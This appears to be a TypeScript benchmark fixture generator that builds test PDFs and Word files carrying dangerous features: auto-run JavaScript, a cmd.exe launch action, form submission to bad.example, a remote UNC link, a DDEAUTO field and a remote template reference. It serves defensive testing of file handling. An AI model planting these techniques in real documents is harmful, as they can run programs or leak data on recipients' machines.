import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { basename, join } from 'node:path'
import type { ForeignFile } from '#bench/foreign-files/papers'
import { has, start } from '#bench/foreign-files/programs'

/** What nobody should find in a paper, put into its catalogue. */
const dangers = {
  script: { '/OpenAction': { '/S': '/JavaScript', '/JS': 'u:app.alert(1)' } },
  program: { '/OpenAction': { '/S': '/Launch', '/F': 'u:cmd.exe' } },
  closing: { '/AA': { '/WC': { '/S': '/JavaScript', '/JS': 'u:app.alert(1)' } } },
  named: { '/Names': { '/JavaScript': { '/Names': ['u:a', { '/S': '/JavaScript', '/JS': 'u:app.alert(1)' }] } } },
  sender: { '/OpenAction': { '/S': '/SubmitForm', '/F': { '/FS': '/URL', '/F': 'u:https://bad.example' } } },
  host: { '/OpenAction': { '/S': '/GoToR', '/F': 'u:\\\\host\\a.pdf', '/D': [0, '/Fit'] } },
} as const

const packings: Readonly<Record<string, readonly string[]>> = {
  plain: ['--object-streams=disable'],
  packed: ['--object-streams=generate'],
  web: ['--linearize', '--object-streams=generate'],
  owned: ['--object-streams=generate', '--encrypt', '', 'owner', '256', '--'],
}

interface Told {
  readonly qpdf: readonly [object, Readonly<Record<string, { readonly value?: Record<string, unknown> }>>]
}

/** The paper with something put into its catalogue, as qpdf writes it. */
async function withDanger(path: string, to: string, danger: object, home: string): Promise<void> {
  const [head, objects] = (JSON.parse(await start('qpdf', ['--json=2', '--json-key=qpdf', path], home)) as Told).qpdf
  const root = String(objects['trailer']?.value?.['/Root'])
  const catalogue = { value: { ...objects[`obj:${root}`]?.value, ...danger } }
  const change = `${to}.json`
  await writeFile(change, JSON.stringify({ qpdf: [head, { [`obj:${root}`]: catalogue }] }))
  await start('qpdf', [path, `--update-from-json=${change}`, to], home)
}

/** Papers that run, send, fetch or carry something, packed in every way that qpdf knows. */
export async function dangerousPapers(home: string, good: readonly ForeignFile[]): Promise<readonly ForeignFile[]> {
  if (!has('dangerous papers', 'qpdf')) return []
  const bases = good.filter(({ name }) => /^(?:office-plain|chromium)\/(?:plain|photo|links)\.pdf$/.test(name))
  const folder = join(home, 'dangerous')
  await mkdir(folder)
  const attachment = join(home, 'a.exe')
  await writeFile(attachment, Buffer.from('MZ'))
  const made: ForeignFile[] = []
  for (const { name, path } of bases) {
    const raw = join(folder, 'raw.pdf')
    const put: Readonly<Record<string, () => Promise<unknown>>> = {
      ...Object.fromEntries(Object.entries(dangers).map(([kind, danger]) => [kind, () => withDanger(path, raw, danger, home)])),
      attached: () => start('qpdf', [path, '--add-attachment', attachment, '--', raw], home),
    }
    for (const [kind, make] of Object.entries(put)) {
      await make()
      for (const [packing, options] of Object.entries(packings)) {
        const to = join(folder, `${kind}-${packing}-${name.replace('/', '-')}`)
        await start('qpdf', [...options, raw, to], home)
        made.push({ name: basename(to), path: to, purpose: 'document', contentType: 'application/pdf' })
      }
    }
  }
  return [...made, ...(await dangerousLetters(home, good))]
}

/** Letters to which a relation was added that fetches a template, and a field that starts a program. */
async function dangerousLetters(home: string, good: readonly ForeignFile[]): Promise<ForeignFile[]> {
  const letter = good.find(({ name }) => name === 'office-docx/plain.docx')
  if (!letter) return []
  const { unzipSync, zipSync } = await import('fflate')
  const parts = unzipSync(await readFile(letter.path))
  const change = (name: string, from: string, to: string) => ({
    ...parts,
    [name]: Buffer.from(
      Buffer.from(parts[name] ?? '')
        .toString()
        .replace(from, to),
    ),
  })
  const relation =
    '<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://bad.example/t.dotm" TargetMode="External"/></Relationships>'
  const field = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p><w:sectPr'
  const made = {
    'template.docx': change('word/_rels/document.xml.rels', '</Relationships>', relation),
    'field.docx': change('word/document.xml', '<w:sectPr', field),
    'macro.docx': { ...parts, 'word/vbaProject.bin': Buffer.from('x') },
  }
  return Promise.all(
    Object.entries(made).map(async ([name, changed]) => {
      const path = join(home, 'dangerous', name)
      await writeFile(path, zipSync(changed))
      return { ...letter, name, path }
    }),
  )
}
